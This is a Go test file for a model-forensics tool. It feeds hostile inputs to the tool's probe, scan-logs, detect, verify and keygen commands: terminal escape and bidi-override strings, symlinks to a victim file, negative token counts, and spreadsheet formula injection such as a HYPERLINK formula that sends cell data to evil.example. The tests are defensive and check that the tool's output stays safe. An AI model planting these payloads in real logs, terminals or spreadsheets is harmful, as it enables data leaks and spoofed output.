package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"forensics/evidence"
	"forensics/logline"
	"forensics/probe"
)

// Tests of issue 13's threat model: whoever talks to us — a suspect model
// we probe, the author of a log we scan, whoever hands us a bundle, whoever
// can plant a file where we write keys — may be hostile.

// hostileText sets the terminal's title, clears the screen, moves the
// cursor back over a line, hides text, uses the one-byte C1 CSI and
// reverses the display order with a bidi override.
const hostileText = "\x1b]0;pwned\x07\x1b[2J\r\x1b[8mhidden\x1b[0m\u009b31m\u202eevil\u2066x\u2069\x7f"

// assertTerminalSafe fails when s holds a byte or character that a terminal
// would act on instead of showing: C0 controls other than newline and tab,
// DEL, C1 controls, bidi overrides and isolates, or bytes that are not
// UTF-8.
func assertTerminalSafe(t *testing.T, what, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not UTF-8: %q", what, s)
	}
	for i, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s holds %U at byte %d: …%q…", what, r, i, s[max(0, i-40):min(len(s), i+40)])
			return
		}
	}
}

// TestKeygenRefusesSymlinks plants a symbolic link to a victim file where
// keygen writes (the key, the signing key, its .pub) and runs keygen with
// and without --force: it fails with a clear error and the victim is
// untouched.
func TestKeygenRefusesSymlinks(t *testing.T) {
	tests := []struct {
		name    string
		link    string // the file name replaced by a link
		signing bool
	}{
		{"watermark key", "key.yaml", false},
		{"signing key", "key.yaml", true},
		{"signing key's .pub", "key.yaml.pub", true},
	}
	for _, tt := range tests {
		for _, force := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s force=%v", tt.name, force), func(t *testing.T) {
				dir := t.TempDir()
				victim := filepath.Join(dir, "victim.txt")
				if err := os.WriteFile(victim, []byte("precious\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink(victim, filepath.Join(dir, tt.link)); err != nil {
					t.Fatal(err)
				}
				args := []string{"keygen", "--out", filepath.Join(dir, "key.yaml")}
				if tt.signing {
					args = append(args, "--signing")
				}
				if force {
					args = append(args, "--force")
				}
				code, out, errOut := runCLI(t, "", args...)
				if code != 1 || !strings.Contains(errOut, "symbolic link; refusing to write through it") {
					t.Errorf("exit %d, stdout %q, stderr %q", code, out, errOut)
				}
				if got, _ := os.ReadFile(victim); string(got) != "precious\n" {
					t.Errorf("the victim file now holds %q", got)
				}
				if st, err := os.Stat(victim); err != nil || st.Mode().Perm() != 0o644 {
					t.Errorf("the victim's mode changed: %v %v", st.Mode(), err)
				}
			})
		}
	}
}

// TestSigningKeyOpenPermissions: probe --sign refuses a signing key group
// or others can read, as detect refuses such a watermark key.
func TestSigningKeyOpenPermissions(t *testing.T) {
	key := newKeyFile(t)
	sign := filepath.Join(t.TempDir(), "signer.key")
	if code, _, errOut := runCLI(t, "", "keygen", "--signing", "--out", sign); code != 0 {
		t.Fatal(errOut)
	}
	os.Chmod(sign, 0o644)
	out := filepath.Join(t.TempDir(), "b")
	code, _, errOut := runCLI(t, "", "probe", "--target", "embedded:reference", "--key", key, "--sign", sign, "--out", out)
	if code != 1 || !strings.Contains(errOut, "permissions 0644 let group or others read it; run: chmod 600 "+sign) {
		t.Errorf("world-readable signing key: exit %d %q", code, errOut)
	}
}

// hostileSuspect is an Ollama-compatible server that answers /api/show
// with showStatus (and hostileText as the body when it is not 200) and
// every generation with generate's status and body.
func hostileSuspect(t *testing.T, showStatus int, generate func(prompt string) (int, string)) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/show" {
			w.WriteHeader(showStatus)
			if showStatus != http.StatusOK {
				w.Write([]byte(hostileText))
			} else {
				w.Write([]byte(`{}`))
			}
			return
		}
		var req struct{ Prompt string }
		json.NewDecoder(r.Body).Decode(&req)
		status, body := generate(req.Prompt)
		w.WriteHeader(status)
		w.Write([]byte(body))
	}))
	t.Cleanup(srv.Close)
	return "ollama://" + strings.TrimPrefix(srv.URL, "http://") + "/suspect"
}

// TestProbeHostileSuspect probes suspects whose error bodies, error fields
// and answers carry terminal escapes: nothing the commands print (stdout
// and the final error line) holds a control character, and verify's
// output on a bundle whose results were edited to hold escapes is as safe.
func TestProbeHostileSuspect(t *testing.T) {
	key := newKeyFile(t)
	errorField, _ := json.Marshal(map[string]any{"error": hostileText})
	answer := func(p string) string {
		b, _ := json.Marshal(map[string]any{"response": hostileText + " " + p, "eval_count": 9, "done": true})
		return string(b)
	}
	tests := []struct {
		name     string
		show     int
		generate func(string) (int, string)
		code     int
		want     string
	}{
		{"error body on /api/show", http.StatusInternalServerError, nil, 1, `/api/show answered 500: "\x1b]0;pwned`},
		{"error body on generate", http.StatusOK, func(string) (int, string) { return http.StatusBadRequest, hostileText }, 1, `HTTP 400: "\x1b]0;pwned`},
		{"error field in a 200", http.StatusOK, func(string) (int, string) { return http.StatusOK, string(errorField) }, 1, `server error: \x1b]0;pwned\x07\x1b[2J\r\x1b[8mhidden`},
		{"answers", http.StatusOK, func(p string) (int, string) { return http.StatusOK, answer(p) }, 0, "evidence bundle"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			target := hostileSuspect(t, tt.show, tt.generate)
			bundle := filepath.Join(t.TempDir(), "case")
			code, out, errOut := runCLI(t, "", "probe", "--target", target, "--key", key, "--prompts", "12", "--triggers", "0",
				"--null-keys", "0", "--rounds", "99", "--concurrency", "1", "--timeout", "10s", "--out", bundle)
			if code != tt.code || !strings.Contains(out+errOut, tt.want) {
				t.Errorf("exit %d; want %d and %q in:\n%s\n%s", code, tt.code, tt.want, out, errOut)
			}
			assertTerminalSafe(t, "probe's output", out)
			assertTerminalSafe(t, "probe's errors", errOut)
			if code != 0 {
				return
			}
			// The bundle holds the answers as given, escapes and all.
			tr, _ := os.ReadFile(filepath.Join(bundle, probe.FileTranscripts))
			if !strings.Contains(string(tr), `\u001b]0;pwned`) {
				t.Error("the transcript lost the suspect's raw answer")
			}
			if code, out, errOut := runCLI(t, "", "report", "--format", "md,html", bundle); code != 0 {
				t.Fatalf("report: %s %s", out, errOut)
			}
			code, out, errOut = runCLI(t, "", "verify", "--key", key, bundle)
			if code != 0 {
				t.Errorf("verify: %d\n%s\n%s", code, out, errOut)
			}
			assertTerminalSafe(t, "verify's output", out)
			// Someone edits a text in results.json and fixes SHA256SUMS:
			// verify quotes the edited value.
			path := filepath.Join(bundle, evidence.FileResults)
			data, _ := os.ReadFile(path)
			edited := strings.Replace(string(data), `"text": "`, `"text": "\u001b]0;pwned\u0007\u001b[2J\u202e`, 1)
			if edited == string(data) {
				t.Fatal("results.json has no text field to edit")
			}
			os.WriteFile(path, []byte(edited), 0o644)
			if err := evidence.Seal(bundle, nil); err != nil {
				t.Fatal(err)
			}
			code, out, errOut = runCLI(t, "", "verify", "--key", key, bundle)
			if code != 1 || !strings.Contains(out, `(recorded \x1b]0;pwned\x07\x1b[2J\u202e`) {
				t.Errorf("verify of edited results: %d\n%s\n%s", code, out, errOut)
			}
			assertTerminalSafe(t, "verify's output", out)
			assertTerminalSafe(t, "verify's errors", errOut)
			code, out, errOut = runCLI(t, "", "verify", "--json", "--key", key, bundle)
			if code != 1 || !strings.Contains(out, `\u001b]0;pwned`) {
				t.Errorf("verify --json of edited results: %d\n%s\n%s", code, out, errOut)
			}
			assertTerminalSafe(t, "verify's JSON", out)
		})
	}
}

// TestProbeBudgetNegativeUsage: a suspect that reports a negative token
// count with every answer cannot keep a "N tokens" budget from running out.
func TestProbeBudgetNegativeUsage(t *testing.T) {
	key := newKeyFile(t)
	target := hostileSuspect(t, http.StatusOK, func(p string) (int, string) {
		b, _ := json.Marshal(map[string]any{"response": "Here is a short answer to: " + p, "eval_count": -1_000_000, "done": true})
		return http.StatusOK, string(b)
	})
	bundle := filepath.Join(t.TempDir(), "case")
	code, out, errOut := runCLI(t, "", "probe", "--target", target, "--key", key, "--prompts", "40", "--triggers", "0",
		"--null-keys", "0", "--rounds", "99", "--concurrency", "1", "--budget", "60 tokens", "--out", bundle)
	if code != 0 || !strings.Contains(out, "(budget reached)") {
		t.Fatalf("exit %d:\n%s\n%s", code, out, errOut)
	}
	data, err := os.ReadFile(filepath.Join(bundle, probe.FileTranscripts))
	if err != nil {
		t.Fatal(err)
	}
	// Each answer is over ten pieces: six answers pass 60 tokens, and one
	// more may be waiting to be handed out.
	if n := strings.Count(string(data), "\n"); n > 8 {
		t.Errorf("%d of 40 queries asked under a 60-token budget:\n%s", n, out)
	}
}

// TestScanLogsHostileLog scans a log whose account names, client strings,
// prompts and malformed lines carry terminal escapes and spreadsheet
// formulas: the table, the JSON, the errors and the CSVs are all safe.
func TestScanLogsHostileLog(t *testing.T) {
	dir := t.TempDir()
	start := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	names := []string{"=HYPERLINK(\"http://evil.example/?\"&A1)" + hostileText, "@SUM(1+1)\n\t" + hostileText}
	var lines []string
	for i := range 60 {
		prompt := fmt.Sprintf("Explain in full detail with reasoning step by step topic number %d %s", i/2, hostileText)
		b, err := logline.Marshal(&logline.Entry{
			TS:      start.Add(time.Duration(i) * time.Minute).Format(time.RFC3339),
			Account: names[i%2], IP: "203.0.113.9", UserAgent: "harvest/1.0 " + hostileText, Prompt: &prompt,
			Params: map[string]any{"top_logprobs": 5, "temperature": 0.2 * float64(i%6)}, PromptTokens: 12, CompletionTokens: 300,
		})
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, string(b))
	}
	lines = append(lines, "not json "+hostileText, `{"ts":"`+hostileText+`","account":"x"}`)
	path := filepath.Join(dir, "requests.jsonl")
	os.WriteFile(path, []byte(strings.Join(lines, "\n")+"\n"), 0o644)

	outDir := filepath.Join(dir, "out")
	code, out, errOut := runCLI(t, "", "scan-logs", "--out", outDir, path)
	if code != 0 || !strings.Contains(out, `=HYPERLINK("http://evil.example/?"&A1)\x1b]0;pwned\x07`) || !strings.Contains(out, "malformed: ") {
		t.Fatalf("scan-logs: %d\n%s\n%s", code, out, errOut)
	}
	assertTerminalSafe(t, "scan-logs table", out)
	assertTerminalSafe(t, "scan-logs stderr", errOut)
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "\t") || strings.HasPrefix(l, hostileText[:4]) {
			t.Errorf("an account name broke a line of the table: %q", l)
		}
	}
	code, out, errOut = runCLI(t, "", "scan-logs", "--json", path)
	if code != 0 {
		t.Fatalf("scan-logs --json: %d %s", code, errOut)
	}
	assertTerminalSafe(t, "scan-logs --json", out)
	var rep struct{ Accounts []struct{ Account string } }
	if err := json.Unmarshal([]byte(out), &rep); err != nil || len(rep.Accounts) < 2 {
		t.Fatalf("JSON: %v", err)
	}
	for _, a := range rep.Accounts {
		if a.Account != names[0] && a.Account != names[1] && a.Account != "x" {
			t.Errorf("the JSON changed an account name to %q", a.Account)
		}
	}
	html, _ := os.ReadFile(filepath.Join(outDir, "report.html"))
	assertTerminalSafe(t, "scan-logs report.html", string(html))
	f, err := os.Open(filepath.Join(outDir, "accounts.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		if strings.ContainsAny(row[0][:1], "=+-@\t\r") {
			t.Errorf("accounts.csv starts a cell with a formula: %q", row[0])
		}
	}
}

// TestDetectHostileText: detect --tokens shows the pieces of a text with
// escapes quoted, and --jsonl keeps a record's raw id safe.
func TestDetectHostileText(t *testing.T) {
	key := newKeyFile(t)
	code, out, errOut := runCLI(t, "Some words "+hostileText+" and more words to score here.", "detect", "--key", key, "--tokens")
	if code != 0 {
		t.Fatalf("detect: %d %s", code, errOut)
	}
	assertTerminalSafe(t, "detect --tokens", out)
	in := `{"id":"` + "\u202eid\u0085" + `","text":"words ` + `\u001b]0;pwned\u0007` + ` and more words to score"}` + "\n"
	code, out, errOut = runCLI(t, in, "detect", "--key", key, "--jsonl")
	if code != 0 || !strings.Contains(out, `"id":"\u202eid\u0085"`) {
		t.Fatalf("detect --jsonl: %d\n%s\n%s", code, out, errOut)
	}
	assertTerminalSafe(t, "detect --jsonl", out)
}
